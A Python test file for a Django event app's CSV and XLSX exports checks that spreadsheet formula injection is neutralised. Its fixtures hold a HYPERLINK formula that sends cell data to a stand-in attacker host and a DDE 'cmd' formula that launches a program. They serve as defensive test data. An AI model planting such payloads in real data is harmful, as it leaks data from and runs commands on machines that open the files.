import csv
import io

import pytest
from openpyxl import load_workbook

from iness import exports
from proposals import services as proposal_services

from .conftest import action, propose, sign_up

pytestmark = pytest.mark.django_db

REGISTRATIONS = "registrations.registration"
PROPOSALS = "proposals.proposal"
ATTACK = '=HYPERLINK("http://attacker.example/?x="&A2,"Click")'


def csv_rows(response, delimiter=","):
    content = response.content
    assert content.startswith("\ufeff".encode()), "no byte order mark"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


def xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return sheet, [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.fixture
def people(make_event):
    event = make_event(capacity=1)
    return [
        sign_up(event, first_name="Zoé", last_name="Abadie", organisation=ATTACK),
        sign_up(event, first_name="Émile", last_name="Zola", organisation="+33 1 23", needs="-"),
    ]


def test_registrations_to_csv_with_commas(organiser_client, people):
    response = action(organiser_client, REGISTRATIONS, "export_csv", people, follow=False)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="sign-ups-')
    header, *rows = csv_rows(response)
    assert header[:8] == [
        "last name",
        "first name",
        "email",
        "organisation",
        "kind of organisation",
        "profile",
        "status",
        "waiting-list position",
    ]
    assert [row[:2] for row in rows] == [["Abadie", "Zoé"], ["Zola", "Émile"]]
    assert [row[6:8] for row in rows] == [["seat confirmed", ""], ["on the waiting list", "1"]]


def test_csv_neutralises_what_a_spreadsheet_would_run(organiser_client, people):
    response = action(organiser_client, REGISTRATIONS, "export_csv", people, follow=False)

    _header, first, second = csv_rows(response)
    assert first[3] == "'" + ATTACK
    assert second[3] == "'+33 1 23"
    assert second[10] == "'-"


def test_registrations_to_csv_with_semicolons(organiser_client, people):
    response = action(organiser_client, REGISTRATIONS, "export_csv_fr", people, follow=False)

    header, *rows = csv_rows(response, delimiter=";")
    assert header[0] == "last name" and len(rows) == 2
    assert rows[0][3] == "'" + ATTACK  # the comma inside stayed in its cell


def test_registrations_to_xlsx(organiser_client, people):
    response = action(organiser_client, REGISTRATIONS, "export_xlsx", people, follow=False)

    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet, (header, *rows) = xlsx_rows(response)
    assert header[:3] == ["last name", "first name", "email"]
    assert [row[:2] for row in rows] == [["Abadie", "Zoé"], ["Zola", "Émile"]]
    assert rows[1][7] == 1
    # Text, never a formula.
    assert sheet["D2"].value == "'" + ATTACK
    assert sheet["D2"].data_type == "s"


def test_selecting_all_exports_the_filtered_rows(organiser_client, people, make_event):
    other = make_event(slug="autre")
    sign_up(other, last_name="Ailleurs")
    event = people[0].event

    response = organiser_client.post(
        f"/admin/registrations/registration/?event__id__exact={event.pk}",
        {"action": "export_csv", "select_across": "1", "_selected_action": [people[0].pk]},
    )

    _header, *rows = csv_rows(response)
    assert sorted(row[0] for row in rows) == ["Abadie", "Zola"]


def test_proposals_export(organiser_client, event):
    talk = propose(event, title="=cmd|' /C calc'!A0", format="talk")
    table = propose(event, title="Tiers-lieux", format="round_table")
    proposal_services.decide(proposal=table, decision="accepted", by="test")

    csv_response = action(organiser_client, PROPOSALS, "export_csv", [talk, table], follow=False)
    xlsx_response = action(organiser_client, PROPOSALS, "export_xlsx", [talk, table], follow=False)

    header, *rows = csv_rows(csv_response)
    assert header[:3] == ["title", "format", "status"]
    assert [row[:3] for row in rows] == [
        ["'=cmd|' /C calc'!A0", "Talk", "submitted"],
        ["Tiers-lieux", "Round table", "accepted"],
    ]
    _sheet, (xlsx_header, *xlsx_body) = xlsx_rows(xlsx_response)
    assert list(xlsx_header) == header
    assert [row[:3] for row in xlsx_body] == [row[:3] for row in rows]


def test_control_characters_do_not_break_the_xlsx_file():
    content = exports.render(
        exports.dataset(title="t", headers=["a"], rows=[["bell\x07 and tab\tinside"]]), exports.XLSX
    )

    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet["A2"].value == "bell and tab\tinside"


def test_french_csv_writes_decimal_commas():
    content = exports.render(
        exports.dataset(title="t", headers=["score"], rows=[[3.5], [-2]]), exports.CSV_SEMICOLON
    )

    assert content.decode("utf-8-sig").splitlines() == ["score", "3,5", "-2"]
